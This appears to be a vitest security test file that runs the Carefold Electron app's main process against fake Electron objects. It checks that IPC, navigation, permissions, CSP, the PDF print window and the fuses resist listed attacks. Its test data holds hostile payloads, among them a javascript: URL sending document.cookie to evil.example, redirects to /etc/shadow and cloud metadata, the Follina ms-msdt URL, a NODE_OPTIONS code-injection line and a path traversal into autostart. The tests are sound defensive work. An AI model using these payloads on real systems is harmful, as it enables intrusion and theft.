/**
 * Electron hardening, attacked through the REAL desktop shell: src/main/index.ts is started as an
 * installed build (app.isPackaged) against stand-ins for the Electron objects that cannot run here
 * (`fakeElectron`, installed with vi.mock by electronHardening.test.ts), so its own wiring is what is
 * tested — the window it creates, the IPC handlers it registers (with its own trusted-frame check) over
 * the real engine, the navigation and window-open guards it puts on every webContents, the external
 * link confirmation, the session's permission handlers, the sandboxed preload's bridge and the hidden
 * Save-as-PDF window. The fuses are read from the afterPack hook and flipped with @electron/fuses on a
 * synthetic fuse wire (the real binary check skips where Electron cannot be downloaded).
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { expect } from "vitest";
import { METHODS, ipcRequestChannel, type CarefoldBridge } from "../../../src/shared/methods";
import { REPO } from "../../support/engineHarness";
import { tempDir } from "../../support/tempDir";
import { family, type Attack } from "../attack";

// ---------- stand-ins for Electron's objects ----------

type Listener = (...args: unknown[]) => unknown;
type NavListener = (event: { preventDefault(): void }, url: string) => void;

interface FakeWindow {
  options: { show?: boolean; webPreferences: Record<string, unknown> };
  loadedUrl: string | null;
  loadedFile: string | null;
  destroyed: boolean;
}

/** What the shell did with Electron, as the stand-ins saw it. */
export const desktop = {
  dataDir: "",
  appHandlers: new Map<string, Listener>(),
  ipc: new Map<string, (event: unknown, ...args: unknown[]) => Promise<unknown>>(),
  windows: [] as FakeWindow[],
  permissionRequest: null as null | ((wc: unknown, permission: string, callback: (granted: boolean) => void, details?: unknown) => void),
  permissionCheck: null as null | ((...args: unknown[]) => boolean),
  prompts: [] as { message: string; detail: string; buttons: string[]; defaultId: number; cancelId: number }[],
  /** Which button the user presses in the link confirmation (0: Cancel). */
  answer: 0,
  opened: [] as string[],
  errors: [] as string[],
  exposed: new Map<string, unknown>(),
  invoked: [] as string[],
  saveDialogs: [] as { defaultPath?: string }[],
  saveAs: "",
  quits: 0,
};

export function fakeElectron() {
  class BrowserWindow implements FakeWindow {
    options: FakeWindow["options"];
    loadedUrl: string | null = null;
    loadedFile: string | null = null;
    destroyed = false;
    webContents = {
      send: () => undefined,
      printToPDF: async () => Buffer.from("%PDF-1.7\n% stand-in\n"),
    };
    constructor(options: FakeWindow["options"]) {
      this.options = options;
      desktop.windows.push(this);
    }
    static getAllWindows() {
      return (desktop.windows as BrowserWindow[]).filter((w) => !w.destroyed);
    }
    static getFocusedWindow() {
      return null;
    }
    once() {}
    on() {}
    show() {}
    isMinimized() {
      return false;
    }
    restore() {}
    focus() {}
    async loadURL(url: string) {
      this.loadedUrl = url;
    }
    async loadFile(file: string) {
      this.loadedFile = file;
    }
    destroy() {
      this.destroyed = true;
    }
  }
  const refuse = () => {
    throw new Error("no keychain here");
  };
  return {
    app: {
      isPackaged: true,
      requestSingleInstanceLock: () => true,
      on: (event: string, listener: Listener) => void desktop.appHandlers.set(event, listener),
      whenReady: () => Promise.resolve(),
      getPath: () => desktop.dataDir,
      getAppPath: () => REPO,
      quit: () => void desktop.quits++,
      exit: () => undefined,
    },
    BrowserWindow,
    ipcMain: {
      handle: (channel: string, listener: (event: unknown, ...args: unknown[]) => Promise<unknown>) => void desktop.ipc.set(channel, listener),
      removeHandler: (channel: string) => void desktop.ipc.delete(channel),
    },
    session: {
      defaultSession: {
        setPermissionRequestHandler: (h: typeof desktop.permissionRequest) => void (desktop.permissionRequest = h),
        setPermissionCheckHandler: (h: typeof desktop.permissionCheck) => void (desktop.permissionCheck = h),
      },
    },
    dialog: {
      showErrorBox: (title: string, message: string) => void desktop.errors.push(`${title}: ${message}`),
      showMessageBox: async (...args: unknown[]) => {
        desktop.prompts.push(args.at(-1) as (typeof desktop.prompts)[number]);
        return { response: desktop.answer };
      },
      showSaveDialog: async (...args: unknown[]) => {
        desktop.saveDialogs.push(args.at(-1) as { defaultPath?: string });
        return { canceled: false, filePath: desktop.saveAs };
      },
      showOpenDialog: async () => ({ canceled: true, filePaths: [] }),
    },
    shell: { openExternal: async (url: string) => void desktop.opened.push(url) },
    safeStorage: { isEncryptionAvailable: () => false, encryptString: refuse, decryptString: refuse, getSelectedStorageBackend: () => "basic_text" },
    contextBridge: { exposeInMainWorld: (key: string, api: unknown) => void desktop.exposed.set(key, api) },
    ipcRenderer: {
      invoke: async (channel: string) => {
        desktop.invoked.push(channel);
        return { ok: true, result: null };
      },
      on: () => undefined,
      removeListener: () => undefined,
    },
    webUtils: { getPathForFile: () => "" },
  };
}

// ---------- the shell, started ----------

export interface ShellContext {
  /** The renderer page the shell loads; only frames showing it may call the engine. */
  trustedUrl: string;
  printToPdf(html: string, fileName: string): Promise<{ saved: boolean; path: string | null }>;
  RENDERER_CSP: string;
  tmp: string;
  stop(): Promise<void>;
}

/** A dev-server address an attacker could plant in the environment of an installed build. */
const PLANTED_DEV_URL = "http://localhost:5173/";

export async function startShell(): Promise<ShellContext> {
  const tmp = tempDir("carefold-shell-");
  desktop.dataDir = join(tmp.dir, "userData");
  mkdirSync(desktop.dataDir, { recursive: true });
  desktop.saveAs = join(tmp.dir, "saved.pdf");
  const previous = process.env["ELECTRON_RENDERER_URL"];
  process.env["ELECTRON_RENDERER_URL"] = PLANTED_DEV_URL;
  await import("../../../src/main/index");
  await import("../../../src/preload/index");
  const { printToPdf } = await import("../../../src/main/printToPdf");
  const { RENDERER_CSP } = await import("../../../src/main/security");
  const started = Date.now();
  while (desktop.ipc.size === 0 && desktop.errors.length === 0 && Date.now() - started < 30_000) await new Promise((r) => setTimeout(r, 10));
  if (desktop.errors.length) throw new Error(`the shell did not start: ${desktop.errors.join("; ")}`);
  return {
    trustedUrl: pathToFileURL(join(REPO, "src", "renderer", "index.html")).href,
    printToPdf,
    RENDERER_CSP,
    tmp: tmp.dir,
    async stop() {
      const quits = desktop.quits;
      desktop.appHandlers.get("will-quit")?.({ preventDefault: () => undefined });
      const t = Date.now();
      while (desktop.quits === quits && Date.now() - t < 10_000) await new Promise((r) => setTimeout(r, 10));
      if (previous === undefined) delete process.env["ELECTRON_RENDERER_URL"];
      else process.env["ELECTRON_RENDERER_URL"] = previous;
      tmp.cleanup();
    },
  };
}

// ---------- helpers over the shell's own wiring ----------

type Envelope = { ok: boolean; result?: unknown; error?: { code: string } };

/** Invokes one of the shell's IPC handlers as a frame showing `url` (null: the frame is gone). */
async function invoke(method: (typeof METHODS)[number], url: string | null, input: unknown = {}): Promise<Envelope> {
  const handler = desktop.ipc.get(ipcRequestChannel(method));
  expect(handler, `a handler for ${method}`).toBeDefined();
  return (await handler!(url === null ? { senderFrame: null } : { senderFrame: { url } }, input)) as Envelope;
}

/** A new webContents as Electron announces it ("web-contents-created"): the shell's guards attach to it. */
function newContents() {
  const nav = new Map<string, NavListener>();
  let openHandler: ((d: { url: string }) => { action: string }) | null = null;
  const contents = {
    on: (event: string, listener: NavListener) => void nav.set(event, listener),
    setWindowOpenHandler: (h: (d: { url: string }) => { action: string }) => void (openHandler = h),
  };
  desktop.appHandlers.get("web-contents-created")!({}, contents);
  const fire = (event: "will-navigate" | "will-redirect", url: string) => {
    let prevented = false;
    expect(nav.get(event), `a ${event} guard`).toBeDefined();
    nav.get(event)!({ preventDefault: () => void (prevented = true) }, url);
    return prevented;
  };
  return {
    navigate: (url: string) => fire("will-navigate", url),
    redirect: (url: string) => fire("will-redirect", url),
    open: (url: string) => {
      expect(openHandler, "a window-open handler").not.toBeNull();
      return openHandler!({ url }).action;
    },
  };
}

/** Lets the confirmation dialog (async) run. */
const settle = () => new Promise((r) => setTimeout(r, 20));

function resetLinks(answer = 0) {
  desktop.prompts.length = 0;
  desktop.opened.length = 0;
  desktop.answer = answer;
}

const deniedNavigation = (name: string, payload: string, url: string, kind: "navigate" | "redirect" | "open"): Attack<ShellContext> => ({
  name,
  surface: kind === "open" ? "window.open / target=_blank (setWindowOpenHandler on every webContents)" : `${kind === "navigate" ? "will-navigate" : "will-redirect"} on every webContents`,
  payload,
  expected: kind === "open" ? "denied: no window, no confirmation asked, nothing handed to the OS" : "prevented: the window stays on the app; no confirmation asked, nothing handed to the OS",
  async run() {
    resetLinks(1); // even a user who would click "Open" is never asked
    const contents = newContents();
    if (kind === "open") expect(contents.open(url)).toBe("deny");
    else expect(kind === "navigate" ? contents.navigate(url) : contents.redirect(url)).toBe(true);
    await settle();
    expect(desktop.prompts).toEqual([]);
    expect(desktop.opened).toEqual([]);
  },
});

const deniedPermission = (name: string, permission: string, payload: string): Attack<ShellContext> => ({
  name,
  surface: "session.defaultSession permission request and check handlers (set by the shell when ready)",
  payload,
  expected: "denied, both as a request and as a check",
  async run() {
    expect(desktop.permissionRequest).not.toBeNull();
    const answers: boolean[] = [];
    desktop.permissionRequest!({}, permission, (granted) => void answers.push(granted), { requestingUrl: "file:///evil.html" });
    expect(answers).toEqual([false]);
    expect(desktop.permissionCheck!({}, permission, "file:///evil.html", {})).toBe(false);
  },
});

// ---------- fuses ----------

const FUSE_SENTINEL = "dL7pKGdnNz796PbbjQWNKmHXBZaB9tsX";
/** Electron's fuse wire as it ships (V1, 8 fuses): RunAsNode on, cookie encryption off, NODE_OPTIONS on, --inspect on, … */
const SHIPPED_WIRE = "10011001";

/** A stand-in executable with Electron's fuse wire, flipped the way the afterPack hook flips the real one. */
async function flippedWire(dir: string): Promise<Record<string, boolean>> {
  const { FUSES } = (await import("../../../scripts/package/after-pack.mjs")) as { FUSES: Record<string, boolean> };
  const fuses = createRequire(join(REPO, "package.json"))("@electron/fuses") as {
    flipFuses(path: string, config: Record<string | number, unknown>): Promise<unknown>;
    getCurrentFuseWire(path: string): Promise<Record<number, number>>;
    FuseVersion: { V1: string };
    FuseV1Options: Record<string, number>;
  };
  const exe = join(dir, "carefold");
  if (!existsSync(exe)) {
    const wire = Buffer.from([1, SHIPPED_WIRE.length, ...[...SHIPPED_WIRE].map((c) => c.charCodeAt(0))]);
    writeFileSync(exe, Buffer.concat([Buffer.from("\u007fELF stand-in "), Buffer.from(FUSE_SENTINEL), wire, Buffer.from(" tail")]));
    // As after-pack.mjs does: one setting per FUSES entry, by @electron/fuses option name.
    const settings: Record<string | number, unknown> = { version: fuses.FuseVersion.V1 };
    for (const [name, value] of Object.entries(FUSES)) {
      expect(typeof fuses.FuseV1Options[name], `${name} is a real fuse`).toBe("number");
      settings[fuses.FuseV1Options[name]!] = value;
    }
    await fuses.flipFuses(exe, settings);
  }
  const wire = await fuses.getCurrentFuseWire(exe);
  return Object.fromEntries(Object.entries(fuses.FuseV1Options).filter(([k]) => Number.isNaN(Number(k))).map(([name, i]) => [name, wire[i] === "1".charCodeAt(0)]));
}

const fuse = (name: string, option: string, on: boolean, payload: string): Attack<ShellContext> => ({
  name,
  surface: "scripts/package/after-pack.mjs FUSES → @electron/fuses on the packed executable",
  payload,
  expected: `the ${option} fuse is ${on ? "on" : "off"} in the declared settings and on the flipped wire`,
  async run(ctx) {
    const { FUSES } = (await import("../../../scripts/package/after-pack.mjs")) as { FUSES: Record<string, boolean> };
    expect(FUSES[option]).toBe(on);
    const wire = await flippedWire(ctx.tmp);
    expect(wire[option]).toBe(on);
  },
});

// ---------- the table ----------

export const electronHardening = family<ShellContext>("electron-hardening", [
  {
    name: "installed-build-devtools-off",
    surface: "the main window the shell creates (BrowserWindow webPreferences), app.isPackaged",
    payload: "open the devtools of an installed build (Ctrl+Shift+I / webContents.openDevTools)",
    expected: "devTools false; context isolation, sandbox, no Node in the page or its workers, web security on",
    run() {
      const main = desktop.windows.find((w) => w.loadedFile !== null || w.loadedUrl !== null);
      expect(main, "the shell made its window").toBeDefined();
      expect(main!.options.webPreferences).toMatchObject({
        devTools: false,
        contextIsolation: true,
        sandbox: true,
        nodeIntegration: false,
        nodeIntegrationInWorker: false,
        webSecurity: true,
        allowRunningInsecureContent: false,
        experimentalFeatures: false,
      });
    },
  },
  {
    name: "installed-build-ignores-planted-dev-server-url",
    surface: "the main window's first load, with ELECTRON_RENDERER_URL set in the environment",
    payload: `ELECTRON_RENDERER_URL=${PLANTED_DEV_URL} planted before an installed build starts`,
    expected: "the window loads the bundled index.html from disk, never the planted address",
    run() {
      const main = desktop.windows.find((w) => w.loadedFile !== null || w.loadedUrl !== null)!;
      expect(main.loadedUrl).toBeNull();
      expect(main.loadedFile).toBe(join(REPO, "src", "renderer", "index.html"));
    },
  },
  {
    name: "ipc-from-planted-dev-server-frame",
    surface: "ipcMain handlers (the shell's trusted-frame check) → engine",
    payload: `notes.write from a frame at ${PLANTED_DEV_URL} (the planted dev-server address) in an installed build`,
    expected: "invalid_message; nothing written",
    async run(ctx) {
      const r = await invoke("notes.write", PLANTED_DEV_URL, { name: "planted.md", content: "x" });
      expect(r).toMatchObject({ ok: false, error: { code: "invalid_message" } });
      expect(existsSync(join(desktop.dataDir, "workspace", "notes", "planted.md"))).toBe(false);
      // The app's own page is still served.
      expect(await invoke("settings.get", ctx.trustedUrl)).toMatchObject({ ok: true });
    },
  },
  {
    name: "ipc-delete-all-from-remote-frame",
    surface: "ipcMain handler data.deleteAll (trusted-frame check) → engine",
    payload: "data.deleteAll from a frame at https://evil.example/ (an embedded or navigated-to remote page)",
    expected: "invalid_message; the user's notes are still there",
    async run(ctx) {
      expect(await invoke("notes.write", ctx.trustedUrl, { name: "keep.md", content: "my medicine list" })).toMatchObject({ ok: true });
      const r = await invoke("data.deleteAll", "https://evil.example/");
      expect(r).toMatchObject({ ok: false, error: { code: "invalid_message" } });
      // Still on disk (sealed with the data key, so read back through the app, not as plain bytes).
      expect(existsSync(join(desktop.dataDir, "workspace", "notes", "keep.md"))).toBe(true);
      expect(await invoke("notes.read", ctx.trustedUrl, { name: "keep.md" })).toMatchObject({ ok: true, result: { content: "my medicine list" } });
    },
  },
  {
    name: "ipc-from-data-url-frame",
    surface: "ipcMain handler notes.list (trusted-frame check)",
    payload: "notes.list from a frame at data:text/html,<script>…</script>",
    expected: "invalid_message: no note names leave through a data: frame",
    async run() {
      expect(await invoke("notes.list", "data:text/html,<script>parent.postMessage(1)</script>")).toMatchObject({ ok: false, error: { code: "invalid_message" } });
    },
  },
  {
    name: "ipc-from-about-blank-subframe",
    surface: "ipcMain handler threads.list (trusted-frame check)",
    payload: "threads.list from an about:blank / about:srcdoc subframe",
    expected: "invalid_message for both",
    async run() {
      expect(await invoke("threads.list", "about:blank")).toMatchObject({ ok: false, error: { code: "invalid_message" } });
      expect(await invoke("threads.list", "about:srcdoc")).toMatchObject({ ok: false, error: { code: "invalid_message" } });
    },
  },
  {
    name: "ipc-from-other-local-file",
    surface: "ipcMain handler settings.set (trusted-frame check)",
    payload: "settings.set from a frame showing file:///tmp/evil.html (a local file outside the app)",
    expected: "invalid_message; settings unchanged",
    async run(ctx) {
      const before = await invoke("settings.get", ctx.trustedUrl);
      expect(await invoke("settings.set", "file:///tmp/evil.html", { language: "es" })).toMatchObject({ ok: false, error: { code: "invalid_message" } });
      expect(await invoke("settings.get", ctx.trustedUrl)).toEqual(before);
    },
  },
  {
    name: "ipc-sender-frame-gone",
    surface: "ipcMain handler consent.set (trusted-frame check)",
    payload: "consent.set arriving after its frame navigated away or was destroyed (senderFrame null)",
    expected: "invalid_message; consent not granted",
    async run(ctx) {
      const before = await invoke("consent.get", ctx.trustedUrl);
      expect(await invoke("consent.set", null, { scope: "global", granted: true })).toMatchObject({ ok: false, error: { code: "invalid_message" } });
      expect(await invoke("consent.get", ctx.trustedUrl)).toEqual(before);
    },
  },
  {
    name: "ipc-unregistered-channels",
    surface: "ipcMain (the channels the shell registers)",
    payload: "invoke carefold:rpc:close, carefold:rpc:onEvent, carefold:rpc:__proto__, carefold:rpc:consent.grantGlobal, carefold:event",
    expected: "no handler exists for any of them: only the contract's methods are registered",
    run() {
      expect([...desktop.ipc.keys()].sort()).toEqual(METHODS.map(ipcRequestChannel).sort());
      for (const channel of ["carefold:rpc:close", "carefold:rpc:onEvent", "carefold:rpc:__proto__", "carefold:rpc:consent.grantGlobal", "carefold:event"]) {
        expect(desktop.ipc.has(channel), channel).toBe(false);
      }
    },
  },
  {
    name: "trusted-frame-still-validated",
    surface: "ipcMain handler notes.write from the app's own page",
    payload: 'notes.write { name: "../../carefold.db", content: "x", extra: true } from the trusted page',
    expected: "invalid_input: a trusted frame does not skip the contract; the database is untouched",
    async run(ctx) {
      const db = join(desktop.dataDir, "carefold.db");
      const before = existsSync(db) ? readFileSync(db).length : -1;
      expect(await invoke("notes.write", ctx.trustedUrl, { name: "../../carefold.db", content: "x", extra: true })).toMatchObject({ ok: false, error: { code: "invalid_input" } });
      expect(existsSync(db) ? readFileSync(db).length : -1).toBe(before);
    },
  },
  {
    name: "preload-exposes-only-contract-methods",
    surface: "src/preload (contextBridge.exposeInMainWorld)",
    payload: "page script looks for ipcRenderer, invoke, send, sendSync, require, process on window.carefold",
    expected: "one world key, carefold: the contract's methods, onEvent and pathForFile, nothing else",
    run() {
      expect([...desktop.exposed.keys()]).toEqual(["carefold"]);
      const bridge = desktop.exposed.get("carefold") as Record<string, unknown>;
      expect(Object.keys(bridge).sort()).toEqual([...METHODS, "onEvent", "pathForFile"].sort());
      for (const key of ["ipcRenderer", "invoke", "send", "sendSync", "require", "process", "electron"]) expect(bridge[key], key).toBeUndefined();
    },
  },
  {
    name: "preload-bridge-tampering",
    surface: "src/preload bridge object",
    payload: "page script replaces window.carefold['consult.ask'] and adds window.carefold.invoke",
    expected: "the bridge is frozen: assignments throw, the methods stay; each method invokes only its own channel",
    async run() {
      const bridge = desktop.exposed.get("carefold") as CarefoldBridge & Record<string, unknown>;
      expect(Object.isFrozen(bridge)).toBe(true);
      const original = bridge["consult.ask"];
      expect(() => {
        (bridge as Record<string, unknown>)["consult.ask"] = () => "hijacked";
      }).toThrow(TypeError);
      expect(() => {
        (bridge as Record<string, unknown>)["invoke"] = () => "generic";
      }).toThrow(TypeError);
      expect(bridge["consult.ask"]).toBe(original);
      desktop.invoked.length = 0;
      await bridge["settings.get"]({});
      expect(desktop.invoked).toEqual([ipcRequestChannel("settings.get")]);
    },
  },
  deniedNavigation("navigate-javascript-url", "will-navigate to javascript:fetch('https://evil.example/'+document.cookie)", "javascript:fetch('https://evil.example/'+document.cookie)", "navigate"),
  deniedNavigation("navigate-data-url", "will-navigate to data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "navigate"),
  deniedNavigation("navigate-file-unc-share", "will-navigate to file://attacker.example/share/payload.html (a UNC share)", "file://attacker.example/share/payload.html", "navigate"),
  deniedNavigation("navigate-smb-share", "will-navigate to smb://attacker.example/share", "smb://attacker.example/share", "navigate"),
  deniedNavigation("redirect-to-file-url", "a redirect to file:///etc/shadow", "file:///etc/shadow", "redirect"),
  deniedNavigation("redirect-to-cloud-metadata", "a redirect to http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/", "redirect"),
  deniedNavigation("window-open-javascript", "window.open('javascript:alert(1)')", "javascript:alert(1)", "open"),
  deniedNavigation("window-open-file-executable", "window.open('file:///C:/Windows/System32/calc.exe')", "file:///C:/Windows/System32/calc.exe", "open"),
  deniedNavigation("window-open-data-html", "window.open('data:text/html,<script>opener.carefold</script>')", "data:text/html,<script>opener.carefold</script>", "open"),
  deniedNavigation("window-open-ms-msdt-protocol", "window.open('ms-msdt:/id PCWDiagnostic /skip force') (Follina)", "ms-msdt:/id PCWDiagnostic /skip force", "open"),
  deniedNavigation("window-open-about-blank", "window.open('about:blank') (a blank popup to script into)", "about:blank", "open"),
  {
    name: "navigate-remote-http-needs-confirmation",
    surface: "will-navigate → the shell's external-link confirmation (dialog) → shell.openExternal",
    payload: "a click that navigates to http://evil.example/phish",
    expected: "the window never navigates; the OS browser gets the link only after a confirmation naming evil.example, with Cancel the default; cancelled → nothing opened",
    async run() {
      resetLinks(0);
      const contents = newContents();
      expect(contents.navigate("http://evil.example/phish")).toBe(true);
      await settle();
      expect(desktop.prompts).toHaveLength(1);
      const p = desktop.prompts[0]!;
      expect(p.message).toContain("evil.example");
      expect(p.detail).toBe("http://evil.example/phish");
      expect(p.buttons[p.defaultId]).toBe("Cancel");
      expect(desktop.opened).toEqual([]);
    },
  },
  {
    name: "external-link-userinfo-spoof",
    surface: "window.open → external-link confirmation",
    payload: "window.open('https://www.medicare.gov@evil.example/login') — a trusted name as the URL's user part",
    expected: "the confirmation names the real host evil.example, never medicare.gov; cancelled → nothing opened",
    async run() {
      resetLinks(0);
      expect(newContents().open("https://www.medicare.gov@evil.example/login")).toBe("deny");
      await settle();
      expect(desktop.prompts).toHaveLength(1);
      expect(desktop.prompts[0]!.message).toBe("Open evil.example in your web browser?");
      expect(desktop.opened).toEqual([]);
    },
  },
  {
    name: "external-mailto-bidi-disguise",
    surface: "will-navigate (mailto:) → external-link confirmation",
    payload: "mailto:care<U+202E>gro.elpmaxe@evil.example — a right-to-left override making the address read as care@example.org",
    expected: "the confirmation shows the override as \\u202e, so the real address is plain; cancelled → nothing opened",
    async run() {
      resetLinks(0);
      expect(newContents().navigate("mailto:care\u202egro.elpmaxe@evil.example")).toBe(true);
      await settle();
      expect(desktop.prompts).toHaveLength(1);
      expect(desktop.prompts[0]!.message).toContain("\\u202e");
      expect(desktop.prompts[0]!.message).not.toContain("\u202e");
      expect(desktop.opened).toEqual([]);
    },
  },
  {
    name: "external-tel-hidden-newlines",
    surface: "window.open (tel:) → external-link confirmation",
    payload: "tel:+19005550100%0A%0ACarefold%20support — a premium number with text after hidden line breaks",
    expected: "the confirmation shows the number with the line breaks made visible (\\u000a); not called until confirmed",
    async run() {
      resetLinks(0);
      expect(newContents().open("tel:+19005550100%0A%0ACarefold%20support")).toBe("deny");
      await settle();
      expect(desktop.prompts).toHaveLength(1);
      expect(desktop.prompts[0]!.message).toContain("+19005550100\\u000a\\u000a");
      expect(desktop.prompts[0]!.message).not.toContain("\n");
      expect(desktop.opened).toEqual([]);
    },
  },
  deniedPermission("permission-camera-microphone", "media", "getUserMedia({ video: true, audio: true }) from the page (permission: media)"),
  deniedPermission("permission-geolocation", "geolocation", "navigator.geolocation.getCurrentPosition (permission: geolocation)"),
  deniedPermission("permission-notifications", "notifications", "Notification.requestPermission() (permission: notifications)"),
  deniedPermission("permission-clipboard-read", "clipboard-read", "navigator.clipboard.readText() (permission: clipboard-read)"),
  deniedPermission("permission-open-external-protocol", "openExternal", "a link to an external protocol handler (permission: openExternal)"),
  {
    name: "permission-check-hid-serial-usb",
    surface: "session.defaultSession permission check handler",
    payload: "navigator.hid / navigator.serial / navigator.usb device access checks",
    expected: "every device check answers false",
    run() {
      for (const p of ["hid", "serial", "usb", "fileSystem", "storage-access"]) expect(desktop.permissionCheck!({}, p, "file:///", {}), p).toBe(false);
    },
  },
  {
    name: "renderer-csp-injected-first-and-strict",
    surface: "RENDERER_CSP and the build's index.html transform (electron.vite.config.ts)",
    payload: "an injected <script>, inline handler, <base href>, <form action> or remote connect from the page",
    expected: "the CSP is prepended to <head> of the built page; no unsafe-inline or unsafe-eval, objects, base and forms 'none', sockets only to loopback",
    run(ctx) {
      const csp = ctx.RENDERER_CSP;
      expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes|https?:|wss?:\/\/\*|(^|\s)\*(\s|;|$)/);
      expect(csp).toMatch(/(^|; )default-src 'self'(;|$)/);
      expect(csp).toMatch(/object-src 'none'/);
      expect(csp).toMatch(/base-uri 'none'/);
      expect(csp).toMatch(/form-action 'none'/);
      const connect = /connect-src ([^;]*)/.exec(csp)?.[1]?.split(/\s+/) ?? [];
      for (const source of connect) expect(source).toMatch(/^('self'|ws:\/\/(127\.0\.0\.1|localhost):\*)$/);
      const config = readFileSync(join(REPO, "electron.vite.config.ts"), "utf8");
      const plugin = /function cspMeta\(\)[\s\S]*?\n\}/.exec(config)?.[0] ?? "";
      expect(plugin).toMatch(/"http-equiv":\s*"Content-Security-Policy"/);
      expect(plugin).toMatch(/content:\s*RENDERER_CSP\b/);
      expect(plugin).toMatch(/injectTo:\s*"head-prepend"/);
      expect(config).toMatch(/plugins:\s*\[[^\]]*cspMeta\(\)/);
    },
  },
  {
    name: "print-window-runs-no-script",
    surface: "host.printToPdf (the desktop shell's hidden Save-as-PDF window)",
    payload: '<!doctype html><html><head></head><body><script>require("child_process")</script><img src="https://evil.example/p.gif"></body></html>',
    expected: "a hidden, sandboxed window with JavaScript off, no preload and no Node; the page's CSP forbids scripts and network; the window is destroyed",
    async run(ctx) {
      const before = desktop.windows.length;
      const r = await ctx.printToPdf('<!doctype html><html><head></head><body><script>require("child_process")</script><img src="https://evil.example/p.gif"></body></html>', "agenda");
      expect(r.saved).toBe(true);
      const win = desktop.windows[before]!;
      expect(win.options.show).toBe(false);
      expect(win.options.webPreferences).toMatchObject({ javascript: false, sandbox: true, contextIsolation: true, nodeIntegration: false, devTools: false });
      expect("preload" in win.options.webPreferences).toBe(false);
      expect(win.destroyed).toBe(true);
      const doc = decodedPage(win);
      expect(doc).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">/);
    },
  },
  {
    name: "print-csp-displaced-by-header-tag",
    surface: "host.printToPdf (the CSP the shell puts into the page)",
    payload: '<header><img src="https://evil.example/beacon"></header><head></head>… — a <header> before <head>, so a /<head…>/ match lands in the body',
    expected: "the shell's CSP meta is the document's first element (inside <head>, where Chromium honours it), before any markup of the page",
    async run(ctx) {
      const before = desktop.windows.length;
      await ctx.printToPdf('<header><img src="https://evil.example/beacon"></header><head><title>x</title></head><body>Agenda</body>', "agenda");
      const doc = decodedPage(desktop.windows[before]!);
      expect(doc).toMatch(/^(<!doctype[^>]*>\s*)?<meta http-equiv="Content-Security-Policy" content="default-src 'none'/i);
      expect(doc.indexOf("Content-Security-Policy")).toBeLessThan(doc.indexOf("<header>"));
    },
  },
  {
    name: "print-file-name-traversal",
    surface: "host.printToPdf fileName → the Save dialog's suggested path",
    payload: 'fileName "../../../.config/autostart/evil.desktop"',
    expected: "the suggestion stays a plain .pdf name in the documents folder, no path parts",
    async run(ctx) {
      desktop.saveDialogs.length = 0;
      await ctx.printToPdf("<!doctype html><html><head></head><body>x</body></html>", "../../../.config/autostart/evil.desktop");
      const suggested = desktop.saveDialogs[0]!.defaultPath!;
      expect(suggested.startsWith(`${desktop.dataDir}/`)).toBe(true);
      const name = suggested.slice(desktop.dataDir.length + 1);
      expect(name).not.toMatch(/[/\\]|\.\./);
      expect(name.endsWith(".pdf")).toBe(true);
    },
  },
  fuse("fuse-run-as-node-off", "RunAsNode", false, "ELECTRON_RUN_AS_NODE=1 Carefold -e 'require(\"child_process\")…' (the app binary as a Node interpreter)"),
  fuse("fuse-node-options-env-off", "EnableNodeOptionsEnvironmentVariable", false, "NODE_OPTIONS=--require /tmp/evil.js Carefold"),
  fuse("fuse-inspect-arguments-off", "EnableNodeCliInspectArguments", false, "Carefold --inspect=9229 (a debugger port into the main process)"),
  fuse("fuse-asar-integrity-on", "EnableEmbeddedAsarIntegrityValidation", true, "a patched resources/app.asar dropped into the install folder"),
  fuse("fuse-only-load-app-from-asar-on", "OnlyLoadAppFromAsar", true, "a resources/app/ folder (or app.asar removed) beside the real archive"),
]);

/** The HTML the hidden window was given (a base64 data: URL). */
function decodedPage(win: FakeWindow): string {
  expect(win.loadedUrl).toMatch(/^data:text\/html;charset=utf-8;base64,/);
  return Buffer.from(win.loadedUrl!.split(",")[1]!, "base64").toString("utf8");
}

export const tables = [electronHardening];
